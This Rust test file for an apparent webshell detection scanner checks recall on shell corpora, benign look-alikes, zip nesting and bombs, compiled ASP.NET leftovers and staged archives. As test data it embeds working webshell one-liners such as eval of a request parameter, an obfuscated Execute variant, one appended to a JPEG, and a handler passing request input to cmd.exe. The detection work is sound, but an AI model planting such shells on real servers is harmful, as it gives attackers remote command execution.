//! Detection through the library scan (built-in rules on the raw bytes *and* the normalised text
//! of web scripts, triage selection): recall on the shared corpus of real web shells, asserted as
//! a floor, and no finding of medium or above on the real benign pages. Tests that read
//! `../shared/corpus` skip with a notice when it is missing, unless CI=true.

#![cfg(feature = "yara")]

mod common;
#[path = "support/dotnet_pe.rs"]
mod dotnet_pe;

use deadbox::finding::{Finding, FindingKind, Severity};
use deadbox::scan::Scan;
use std::collections::BTreeSet;
use std::path::Path;

/// Shells of `webshells-more/` (155 files) found at medium or above: 99 before the normaliser
/// and the behaviour rules of issue 15, 141 after, 148 with carrier files (pictures, notes, files
/// without an extension, App_Code sources) probed for server code, form-field credentials of a
/// database console and one-liner clients. A floor: raise it when recall improves.
const WEBSHELLS_MORE_FLOOR: usize = 148;

/// Names (last path component) of the files with a finding of medium or above.
fn flagged(findings: &[Finding]) -> BTreeSet<String> {
    findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .map(|f| {
            f.location
                .path
                .rsplit(['/', '\\'])
                .next()
                .unwrap_or("")
                .to_string()
        })
        .collect()
}

fn scan_dir(dir: &Path) -> Vec<Finding> {
    let scan = Scan::builder().build().unwrap();
    let mut out = Vec::new();
    scan.run_path(dir, &mut out).unwrap();
    out
}

fn names(dir: &Path) -> BTreeSet<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect()
}

#[test]
fn corpus_webshells_more_recall_floor() {
    let Some(corpus) = common::corpus() else {
        return;
    };
    let dir = corpus.join("webshells-more");
    let all = names(&dir);
    let hit = flagged(&scan_dir(&dir));
    let missed: Vec<&String> = all.iter().filter(|n| !hit.contains(*n)).collect();
    let found = all.len() - missed.len();
    eprintln!(
        "webshells-more: {found}/{} detected at medium or above; missed: {missed:?}",
        all.len()
    );
    assert!(
        found >= WEBSHELLS_MORE_FLOOR,
        "recall fell below the floor: {found} < {WEBSHELLS_MORE_FLOOR}; missed {missed:?}"
    );
}

#[test]
fn corpus_webshells_all_detected() {
    let Some(corpus) = common::corpus() else {
        return;
    };
    let dir = corpus.join("webshells");
    let hit = flagged(&scan_dir(&dir));
    let missed: Vec<String> = names(&dir).difference(&hit).cloned().collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

#[test]
fn corpus_benign_pages_raise_nothing_medium_or_above() {
    let Some(corpus) = common::corpus() else {
        return;
    };
    for sub in ["benign-aspx", "benign-more"] {
        let findings = scan_dir(&corpus.join(sub));
        let bad: Vec<String> = findings
            .iter()
            .filter(|f| f.severity >= Severity::Medium)
            .map(|f| format!("{}: {}", f.location.path, f.title))
            .collect();
        assert!(bad.is_empty(), "{sub}: {bad:#?}");
    }
}

/// A one-liner whose code is only visible once normalised: the finding says it matched the
/// normalised text (title and `form` metadata); the plain page next to it matches on its bytes.
#[test]
fn normalised_form_findings_say_so() {
    let scan = Scan::builder().build().unwrap();
    let hidden = b"<% Execute(Chr(101) & \"v\" & ChrW(&H61) & \"l(Req\" & \"uest(\"\"x\"\"))\") %>";
    let mut out = Vec::new();
    scan.run_bytes("mem/one.asp", hidden, &mut out).unwrap();
    let yara: Vec<&Finding> = out
        .iter()
        .filter(|f| f.kind == FindingKind::YaraMatch && f.severity >= Severity::High)
        .collect();
    assert!(!yara.is_empty(), "{out:#?}");
    for f in &yara {
        let rule = f.rule.as_ref().unwrap();
        assert_eq!(
            rule.meta.get("form").and_then(|v| v.as_str()),
            Some("normalised"),
            "{f:#?}"
        );
        assert!(f.title.contains("normalised text"), "{}", f.title);
    }
    let plain = b"<% Execute(Request(\"x\")) %>";
    let mut out = Vec::new();
    scan.run_bytes("mem/two.asp", plain, &mut out).unwrap();
    let f = out
        .iter()
        .find(|f| f.kind == FindingKind::YaraMatch)
        .expect("plain eval of the request");
    assert!(f.rule.as_ref().unwrap().meta.get("form").is_none());
    assert!(!f.title.contains("normalised"));
}

/// Benign look-alikes of the new behaviour rules, through the whole scan (both forms).
#[test]
fn benign_look_alikes_stay_quiet() {
    let scan = Scan::builder().build().unwrap();
    let pages: &[(&str, &[u8])] = &[
        (
            // an installer testing the connection string the admin typed: no SQL from the user
            "install.aspx",
            br#"<%@ Page Language="C#" %><script runat="server">
void Test_Click(object s, EventArgs e) {
  string cs = txtConnection.Text;
  using (var conn = new SqlConnection(cs)) { conn.Open(); }
  var cmd = new SqlCommand(System.IO.File.ReadAllText(Server.MapPath("~/setup/schema.sql")));
}</script>"#,
        ),
        (
            // a download handler serving a file the request names, listing nothing
            "download.ashx",
            br#"<%@ WebHandler Language="C#" Class="D" %>
public class D : IHttpHandler { public void ProcessRequest(HttpContext context) {
  string name = context.Request.QueryString["file"];
  context.Response.TransmitFile(context.Server.MapPath("~/files/" + name)); } }"#,
        ),
        (
            // a page listing its own folder
            "list.ascx",
            br#"<%@ Control Language="C#" %><script runat="server">
void Page_Load() { string p = System.IO.Path.GetDirectoryName(Request.PhysicalPath);
  foreach (string f in System.IO.Directory.GetFiles(p)) { Response.Write(f); }
  File.Delete(Server.MapPath("~/App_Data/cache.tmp")); }</script>"#,
        ),
        (
            // client-side script that builds strings with fromCharCode and eval
            "client.aspx",
            br#"<%@ Page Language="C#" %><html><script type="text/javascript">
var s = String.fromCharCode(104, 105); eval("show" + "(s)"); // Request("x")
</script><% Response.Write("Total: " + total); %></html>"#,
        ),
        (
            // a gallery listing an album folder of the application that the query names
            "gallery.aspx",
            br#"<%@ Page Language="C#" %><script runat="server">
void Page_Load() {
  string album = Request.QueryString["album"];
  foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/gallery/" + album))) Response.Write(f);
  if (Request["img"] != null) Response.WriteFile(Server.MapPath("~/gallery/" + Request["img"]));
}</script>"#,
        ),
        (
            // a notes page saving the typed text under App_Data, in a file the user names
            "notes.aspx",
            br#"<%@ Page Language="C#" %><script runat="server">
void Save_Click(object s, EventArgs e) {
  var w = new System.IO.StreamWriter(Server.MapPath("~/App_Data/notes/" + txtName.Text + ".txt"));
  w.Write(txtBody.Text); w.Close(); }</script>"#,
        ),
        (
            // a logger writing a fixed message to a log file
            "log.aspx",
            br#"<%@ Page Language="C#" %><script runat="server">
void Save_Click(object s, EventArgs e) {
  var w = new System.IO.StreamWriter(Server.MapPath("~/App_Data/log.txt"), true);
  w.Write("saved " + DateTime.Now); w.Close(); lblStatus.Text = "ok"; }</script>"#,
        ),
    ];
    for (name, data) in pages {
        let mut out = Vec::new();
        scan.run_bytes(&format!("mem/{name}"), data, &mut out)
            .unwrap();
        let bad: Vec<&String> = out
            .iter()
            .filter(|f| f.severity >= Severity::Medium)
            .map(|f| &f.title)
            .collect();
        assert!(bad.is_empty(), "{name}: {bad:#?}");
    }
}

/// A zip archive written by hand: `(name, data, deflate?)` members.
fn zip(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    use std::io::Write;
    let mut b = Vec::new();
    let mut central = Vec::new();
    for (name, data, deflate) in members {
        let packed = if *deflate {
            let mut e =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        } else {
            data.to_vec()
        };
        let method: u16 = if *deflate { 8 } else { 0 };
        let offset = b.len() as u32;
        b.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00");
        b.extend_from_slice(&method.to_le_bytes());
        b.extend_from_slice(&[0; 8]); // time, date, crc (not checked)
        b.extend_from_slice(&(packed.len() as u32).to_le_bytes());
        b.extend_from_slice(&(data.len() as u32).to_le_bytes());
        b.extend_from_slice(&(name.len() as u16).to_le_bytes());
        b.extend_from_slice(&0u16.to_le_bytes());
        b.extend_from_slice(name.as_bytes());
        b.extend_from_slice(&packed);
        central.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00\x00\x00");
        central.extend_from_slice(&method.to_le_bytes());
        central.extend_from_slice(&[0; 8]);
        central.extend_from_slice(&(packed.len() as u32).to_le_bytes());
        central.extend_from_slice(&(data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0; 12]);
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_offset = b.len() as u32;
    b.extend_from_slice(&central);
    b.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    b.extend_from_slice(&(members.len() as u16).to_le_bytes());
    b.extend_from_slice(&(members.len() as u16).to_le_bytes());
    b.extend_from_slice(&(central.len() as u32).to_le_bytes());
    b.extend_from_slice(&cd_offset.to_le_bytes());
    b.extend_from_slice(&[0, 0]);
    b
}

/// Zip members are YARA-scanned and hashed as streams of their own: a shell inside an archive
/// is found and named `ARCHIVE!/MEMBER`, with the member's size and SHA-256; a benign member
/// raises nothing.
#[test]
fn zip_members_scanned_as_streams() {
    let shell: &[u8] = br#"<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>"#;
    let benign: &[u8] = b"<%@ Page Language=\"C#\" %><html><body>hello</body></html>";
    let archive = zip(&[
        ("site/a.aspx", shell, true),
        ("site/readme.aspx", benign, false),
    ]);
    let dir = common::scratch().join("zip-members");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("backup.zip"), &archive).unwrap();
    let findings = scan_dir(&dir);
    // (The archive itself may match too: a small member can be stored in the clear.)
    let member: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.kind == FindingKind::YaraMatch && f.location.path.contains(".zip!/"))
        .collect();
    assert!(!member.is_empty(), "{findings:#?}");
    let sha = deadbox::hash::digest(deadbox::hash::Algorithms::default(), shell).sha256;
    for f in &member {
        assert!(
            f.location.path.ends_with("backup.zip!/site/a.aspx"),
            "{}",
            f.location.path
        );
        let facts = f.file.as_ref().unwrap();
        assert_eq!(facts.size, shell.len() as u64);
        assert_eq!(facts.sha256, sha);
    }
    assert!(
        !findings
            .iter()
            .any(|f| f.location.path.contains("readme.aspx")),
        "{findings:#?}"
    );
}

/// Variants of the families the behaviour rules key on, written for this test (inert: no
/// payload logic), found through the whole scan: the request value reaches the sink through a
/// typed VB declaration, a handler's `context.Request`, a control's text, a classic ASP
/// connection, or a concatenated option string.
#[test]
fn behaviour_variants_detected() {
    let scan = Scan::builder().build().unwrap();
    let pages: &[(&str, &str)] = &[
        (
            "vb_browser.aspx",
            r#"<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load()
  Dim p As String = Request.QueryString("p")
  For Each f As String In Directory.GetFiles(p)
    Response.Write(f)
  Next
  If Request("del") <> "" Then File.Delete(Request("del"))
End Sub
</script>"#,
        ),
        (
            "ashx_browser.ashx",
            r#"<%@ WebHandler Language="C#" Class="B" %>
using System.IO; using System.Web;
public class B : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    string dir = context.Request.QueryString["d"];
    foreach (var f in new DirectoryInfo(dir).GetFiles()) context.Response.Write(f.FullName + "\n");
    if (context.Request.QueryString["get"] != null) context.Response.WriteFile(context.Request.QueryString["get"]);
  }
  public bool IsReusable { get { return false; } }
}"#,
        ),
        (
            "oledb_console.aspx",
            r#"<%@ Page Language="C#" %>
<script runat="server">
void Go(object s, EventArgs e) {
  OleDbConnection c = new OleDbConnection();
  c.ConnectionString = txtConn.Text;
  OleDbCommand cmd = c.CreateCommand();
  cmd.CommandText = txtSql.Text;
  grid.DataSource = cmd.ExecuteReader(); grid.DataBind();
}
</script>"#,
        ),
        (
            "asp_console.asp",
            r#"<%
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Request("conn")
Set rs = conn.Execute(Request("sql"))
Do While Not rs.EOF : Response.Write rs(0) : rs.MoveNext : Loop
%>"#,
        ),
        (
            "js_concat.aspx",
            r#"<%@ Page Language="JScript" %><% var k = "Req" + "uest"; var e = "ev" + /*x*/ "al"; eval(Request.Form["c"], "un" + "sa" + "fe"); %>"#,
        ),
    ];
    for (name, text) in pages {
        let mut out = Vec::new();
        scan.run_bytes(&format!("mem/{name}"), text.as_bytes(), &mut out)
            .unwrap();
        assert!(
            out.iter().any(|f| f.severity >= Severity::High),
            "{name}: {out:#?}"
        );
    }
}

/// Server code carried by files of other types is selected by the triage scan and found: a
/// picture with a one-liner appended (past the first 32 KiB, so the tail probe finds it), a note
/// holding a handler, a file without an extension, an App_Code source; look-alikes (a picture, a
/// note about `<%` tags, a plain C# class) are not even selected. A client form of a one-liner
/// is a medium finding.
#[test]
fn carrier_files_selected_and_scanned() {
    let dir = common::scratch().join("carriers");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut jpg = b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00".to_vec();
    jpg.extend((0..40_000u32).map(|i| (i * 7 % 251) as u8));
    let clean_jpg = jpg.clone();
    jpg.extend_from_slice(br#"<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>"#);
    let files: &[(&str, &[u8])] = &[
        ("pic.jpg", &jpg),
        ("clean.jpg", &clean_jpg),
        (
            "howto.txt",
            b"save this as x.aspx:\n<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>\n",
        ),
        ("tags.txt", b"ASP pages open code with <% and close it with %>.\n"),
        (
            "oneliner",
            b"<!-- a --> <% If Request(\"k\") <> \"\" Then Execute(Request(\"k\")) %>",
        ),
        (
            "Handler.cs",
            br#"using System.Web; using System.Diagnostics;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    Process.Start("cmd.exe", "/c " + context.Request["c"]); }
  public bool IsReusable { get { return false; } } }"#,
        ),
        ("Plain.cs", b"public class P { public int A; }"),
        (
            "client.aspx",
            br#"<html><form action="http://10.0.0.1/x.aspx" method="post">
<textarea name="z">var w = new System.IO.StreamWriter(Server.MapPath("y.aspx"), false); w.Write(Request.Item["l"]); w.Close();</textarea>
<input type="submit"></form></html>"#,
        ),
    ];
    for (name, data) in files {
        std::fs::write(dir.join(name), data).unwrap();
    }
    let findings = scan_dir(&dir);
    let hit = flagged(&findings);
    for name in [
        "pic.jpg",
        "howto.txt",
        "oneliner",
        "Handler.cs",
        "client.aspx",
    ] {
        assert!(hit.contains(name), "{name} not found: {findings:#?}");
    }
    for name in ["clean.jpg", "tags.txt", "Plain.cs"] {
        assert!(
            !findings.iter().any(|f| f.location.path.ends_with(name)),
            "{name}: {findings:#?}"
        );
    }
    let client = findings
        .iter()
        .filter(|f| f.location.path.ends_with("client.aspx"))
        .map(|f| f.severity)
        .max();
    assert_eq!(client, Some(Severity::Medium));
}

/// A `.compiled` record as ASP.NET writes it beside a compiled page.
fn compiled_record(virtual_path: &str, assembly: &str, type_name: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="utf-8"?>
<preserve resultType="3" virtualPath="{virtual_path}" hash="fffffffe8d2a3b8c" filehash="5a1e6b2f3c4d0011" flags="110000" assembly="{assembly}" type="{type_name}">
    <filedeps>
        <filedep name="{virtual_path}" />
    </filedeps>
</preserve>
"#
    )
}

/// Compiled leftovers under `Temporary ASP.NET Files`: a page whose source is gone is an
/// `orphan_compiled_page` finding, high when its `App_Web_*.dll` matches a compiled-page rule
/// (the rule's own `yara_match` is there too), medium with a placeholder assembly that matches
/// nothing; a page whose source is still in the web root raises nothing.
#[test]
fn orphaned_compiled_pages() {
    let root = common::scratch().join("compiled-leftovers");
    let _ = std::fs::remove_dir_all(&root);
    let tmp = root.join("Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1a2b3c4d/5e6f7a8b");
    std::fs::create_dir_all(&tmp).unwrap();
    let site = root.join("Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth");
    std::fs::create_dir_all(&site).unwrap();
    std::fs::write(
        site.join("logon.aspx"),
        b"<%@ Page Language=\"C#\" %><html></html>",
    )
    .unwrap();
    let shell = "App_Web_x.aspx.cdcab7d2.abcd1234";
    std::fs::write(
        tmp.join(format!("{shell}.dll")),
        dotnet_pe::assembly(&dotnet_pe::Spec {
            name: shell,
            refs: &["mscorlib", "System", "System.Web"],
            type_refs: &[("System.Web.UI", "Page")],
            types: &[("ASP", "owa_auth_x_aspx")],
            names: &[
                "System.Diagnostics",
                "Process",
                "ProcessStartInfo",
                "Start",
                "get_Request",
            ],
            user_strings: &["cmd.exe", "/c "],
        }),
    )
    .unwrap();
    std::fs::write(
        tmp.join("x.aspx.cdcab7d2.compiled"),
        compiled_record("/owa/auth/x.aspx", shell, "ASP.owa_auth_x_aspx"),
    )
    .unwrap();
    // a deleted page whose assembly is a placeholder (no rule can match it)
    let other = "App_Web_y.aspx.cdcab7d2.efgh5678";
    std::fs::write(tmp.join(format!("{other}.dll")), b"MZ placeholder").unwrap();
    std::fs::write(
        tmp.join("y.aspx.cdcab7d2.compiled"),
        compiled_record("/owa/auth/y.aspx", other, "ASP.owa_auth_y_aspx"),
    )
    .unwrap();
    // the product's own page, still there
    std::fs::write(
        tmp.join("logon.aspx.cdcab7d2.compiled"),
        compiled_record(
            "/owa/auth/logon.aspx",
            "App_Web_logon.aspx.cdcab7d2.ijkl9012",
            "ASP.owa_auth_logon_aspx",
        ),
    )
    .unwrap();
    let findings = scan_dir(&root);
    let orphans: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.kind == FindingKind::OrphanCompiledPage)
        .collect();
    assert_eq!(orphans.len(), 2, "{findings:#?}");
    let x = orphans
        .iter()
        .find(|f| f.location.path.ends_with("x.aspx.cdcab7d2.compiled"))
        .unwrap();
    assert_eq!(x.severity, Severity::High, "{x:#?}");
    let detail = serde_json::to_value(&x.detail).unwrap();
    assert_eq!(detail["virtual_path"], "/owa/auth/x.aspx");
    assert_eq!(detail["assembly"], shell);
    assert_eq!(detail["type"], "ASP.owa_auth_x_aspx");
    assert_eq!(
        detail["assembly_rules"][0],
        "webshells_compiled:compiled_page_command_shell"
    );
    assert!(detail["assembly_path"]
        .as_str()
        .unwrap()
        .ends_with(&format!("{shell}.dll")));
    let y = orphans
        .iter()
        .find(|f| f.location.path.ends_with("y.aspx.cdcab7d2.compiled"))
        .unwrap();
    assert_eq!(y.severity, Severity::Medium, "{y:#?}");
    // the assembly's own rule hit is reported too
    assert!(findings.iter().any(|f| f.kind == FindingKind::YaraMatch
        && f.location.path.ends_with(&format!("{shell}.dll"))
        && f.severity >= Severity::High));
    assert!(
        !findings
            .iter()
            .any(|f| f.location.path.contains("logon.aspx.cdcab7d2")
                && f.severity >= Severity::Medium)
    );
}

/// A zip inside a zip is opened one level deep (`OUTER!/INNER!/MEMBER`); a zip nested deeper is
/// scanned as bytes and said so in a diagnostic; zip bombs (an extreme compression ratio, members
/// whose data overlap) are refused with a diagnostic, without decompressing.
#[test]
fn nested_zips_and_bombs() {
    let shell: &[u8] = br#"<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>"#;
    let inner = zip(&[("deep/a.aspx", shell, true)]);
    let outer = zip(&[("inner.zip", &inner, true), ("notes.txt", b"hello", false)]);
    let three = zip(&[("outer.zip", &outer, true)]);
    // 8 MiB of zeros deflate to about 8 KiB: 1,000:1
    let zeros = vec![0u8; 8 << 20];
    let bomb = zip(&[("big.bin", &zeros, true)]);
    // two directory entries pointing at the same member data
    let mut overlap = zip(&[("a.aspx", shell, true), ("b.aspx", shell, true)]);
    let cd = u32::from_le_bytes(
        overlap[overlap.len() - 6..overlap.len() - 2]
            .try_into()
            .unwrap(),
    ) as usize;
    let second = cd + 46 + "a.aspx".len();
    overlap[second + 42..second + 46].copy_from_slice(&0u32.to_le_bytes());
    let dir = common::scratch().join("zip-nesting");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for (name, data) in [
        ("outer.zip", &outer),
        ("three.zip", &three),
        ("bomb.zip", &bomb),
        ("overlap.zip", &overlap),
    ] {
        std::fs::write(dir.join(name), data).unwrap();
    }
    let findings = scan_dir(&dir);
    let paths: Vec<&str> = findings
        .iter()
        .filter(|f| f.kind == FindingKind::YaraMatch)
        .map(|f| f.location.path.as_str())
        .collect();
    assert!(
        paths
            .iter()
            .any(|p| p.ends_with("outer.zip!/inner.zip!/deep/a.aspx")),
        "{paths:#?}"
    );
    // three levels: the innermost zip is not opened
    assert!(
        !paths
            .iter()
            .any(|p| p.contains("three.zip!/outer.zip!/inner.zip!/")),
        "{paths:#?}"
    );
    let diag = |name: &str| -> Vec<&str> {
        findings
            .iter()
            .filter(|f| f.kind == FindingKind::Diagnostic && f.location.path.ends_with(name))
            .map(|f| f.title.as_str())
            .collect()
    };
    assert!(
        diag("three.zip")
            .iter()
            .any(|t| t.contains("nested more than 1 level")),
        "{:#?}",
        diag("three.zip")
    );
    assert!(
        diag("bomb.zip").iter().any(|t| t.contains("zip bomb")),
        "{:#?}",
        diag("bomb.zip")
    );
    assert!(
        diag("overlap.zip").iter().any(|t| t.contains("overlap")),
        "{:#?}",
        diag("overlap.zip")
    );
    assert!(
        !paths.iter().any(|p| p.contains("overlap.zip!/")),
        "{paths:#?}"
    );
}

/// Archives staged under the web root, `Windows/Temp` and `PerfLogs` of a triage collection:
/// a dump inside (zip, or a real 7-Zip archive whose names are read from its header) is a high
/// `staged_archive`, a web script inside a medium one; an archive elsewhere is not staged.
#[test]
fn staged_archives_in_collections() {
    let root = common::scratch().join("staged-archives");
    let _ = std::fs::remove_dir_all(&root);
    for d in [
        "inetpub/wwwroot/aspnet_client",
        "Windows/Temp",
        "PerfLogs",
        "Users/a",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    let dump = zip(&[("out/lsass.dmp", b"MDMP\x93\xa7 not a real dump", false)]);
    std::fs::write(root.join("inetpub/wwwroot/aspnet_client/d.zip"), &dump).unwrap();
    std::fs::write(
        root.join("Windows/Temp/t.7z"),
        std::fs::read(common::root().join("tests/data/archives/plain.7z")).unwrap(),
    )
    .unwrap();
    let web = zip(&[("x.aspx", b"<%@ Page Language=\"C#\" %>", true)]);
    std::fs::write(root.join("PerfLogs/w.zip"), &web).unwrap();
    std::fs::write(root.join("Users/a/d.zip"), &dump).unwrap();
    let findings = scan_dir(&root);
    let staged = |leaf: &str| {
        findings
            .iter()
            .find(|f| f.kind == FindingKind::StagedArchive && f.location.path.ends_with(leaf))
    };
    let d = staged("aspnet_client/d.zip").expect("zip under the web root");
    assert_eq!(d.severity, Severity::High, "{d:#?}");
    assert_eq!(d.location.path, "/inetpub/wwwroot/aspnet_client/d.zip");
    let t = staged("Temp/t.7z").expect("7z in Windows/Temp");
    assert_eq!(t.severity, Severity::High, "{t:#?}");
    let members = serde_json::to_value(&t.detail).unwrap()["members"].clone();
    assert!(
        members.as_array().unwrap().iter().any(|m| m == "lsass.dmp"),
        "{members}"
    );
    assert_eq!(staged("PerfLogs/w.zip").unwrap().severity, Severity::Medium);
    assert!(staged("Users/a/d.zip").is_none());
}

/// The leftovers of issue 15 on a real NTFS volume (`fixtures/ntfs-compiled.img.gz`, made by
/// ntfs-3g): the compiled shell and the orphaned `.compiled` records (with MFT provenance), a
/// picture one-liner found by the tail probe of a non-resident stream, a note without an
/// extension, a shell two levels down in zips under the web root, a 7-Zip archive staged in
/// `Windows/Temp`; the clean picture and the page that still exists raise nothing.
#[test]
fn compiled_leftovers_and_carriers_on_a_volume() {
    let img = common::unpacked(&common::fixture("ntfs-compiled.img.gz"));
    let scan = Scan::builder().build().unwrap();
    let mut findings = Vec::new();
    scan.run_path(&img, &mut findings).unwrap();
    let find = |kind: FindingKind, end: &str| {
        findings
            .iter()
            .filter(|f| f.kind == kind && f.location.path.ends_with(end))
            .max_by_key(|f| f.severity)
    };
    let tmp = "/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1a2b3c4d/5e6f7a8b/";
    let dll = find(
        FindingKind::YaraMatch,
        "App_Web_x.aspx.cdcab7d2.x1y2z3w4.dll",
    )
    .unwrap();
    assert_eq!(dll.severity, Severity::High);
    assert!(dll.location.path.starts_with(tmp), "{}", dll.location.path);
    assert_eq!(dll.location.partition, None);
    let x = find(FindingKind::OrphanCompiledPage, "x.aspx.cdcab7d2.compiled").unwrap();
    assert_eq!(x.severity, Severity::High);
    assert!(x.location.mft_entry.is_some() && x.location.mft_sequence.is_some());
    assert!(!x.location.deleted);
    assert_eq!(x.location.volume_offset, Some(0));
    let y = find(FindingKind::OrphanCompiledPage, "y.aspx.cdcab7d2.compiled").unwrap();
    assert_eq!(y.severity, Severity::Medium);
    assert!(find(
        FindingKind::OrphanCompiledPage,
        "logon.aspx.cdcab7d2.compiled"
    )
    .is_none());
    assert!(
        find(FindingKind::YaraMatch, "aspnet_client/pic.jpg")
            .unwrap()
            .severity
            >= Severity::High
    );
    assert!(
        find(FindingKind::YaraMatch, "aspnet_client/notes")
            .unwrap()
            .severity
            >= Severity::High
    );
    assert!(!findings
        .iter()
        .any(|f| f.location.path.ends_with("clean.jpg")));
    assert!(
        find(FindingKind::YaraMatch, "backup.zip!/site.zip!/site/a.aspx")
            .unwrap()
            .severity
            >= Severity::High
    );
    assert_eq!(
        find(FindingKind::StagedArchive, "/Windows/Temp/t.7z")
            .unwrap()
            .severity,
        Severity::High
    );
}

/// Zip members are decompressed into memory granted by the scan's one budget, for the size
/// their directory entry declares: a member that decompresses to more than it declares is
/// refused, and so is one that does not fit `--max-memory` or is larger than `--max-in-memory`,
/// each with a diagnostic.
#[test]
fn zip_members_within_the_memory_budget() {
    let text = vec![b'A'; 8 << 10];
    let mut liar = zip(&[("big.txt", &text, true)]);
    let cd = u32::from_le_bytes(liar[liar.len() - 6..liar.len() - 2].try_into().unwrap()) as usize;
    liar[cd + 24..cd + 28].copy_from_slice(&100u32.to_le_bytes());
    let fits = zip(&[("big.txt", &text, true)]);
    let dir = common::scratch().join("zip-budget");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("liar.zip"), &liar).unwrap();
    std::fs::write(dir.join("fits.zip"), &fits).unwrap();
    let diag = |findings: &[Finding], name: &str| -> Vec<String> {
        findings
            .iter()
            .filter(|f| f.kind == FindingKind::Diagnostic && f.location.path.ends_with(name))
            .map(|f| f.title.clone())
            .collect()
    };
    let all = scan_dir(&dir);
    let d = diag(&all, "liar.zip");
    assert!(
        d.iter()
            .any(|t| t.contains("more than the 100 bytes it declares")),
        "{d:#?}"
    );
    assert!(diag(&all, "fits.zip").is_empty(), "{all:#?}");
    // a budget smaller than the member, and a per-member limit smaller than it
    let cases = [
        (
            Scan::builder().max_memory(4 << 10),
            "did not fit the memory budget",
        ),
        (
            Scan::builder().max_in_memory(4 << 10),
            "more than the in-memory limit (--max-in-memory)",
        ),
    ];
    for (builder, says) in cases {
        let mut small = Vec::new();
        builder.build().unwrap().run_path(&dir, &mut small).unwrap();
        let d = diag(&small, "fits.zip");
        assert!(d.iter().any(|t| t.contains(says)), "{says}: {d:#?}");
    }
}
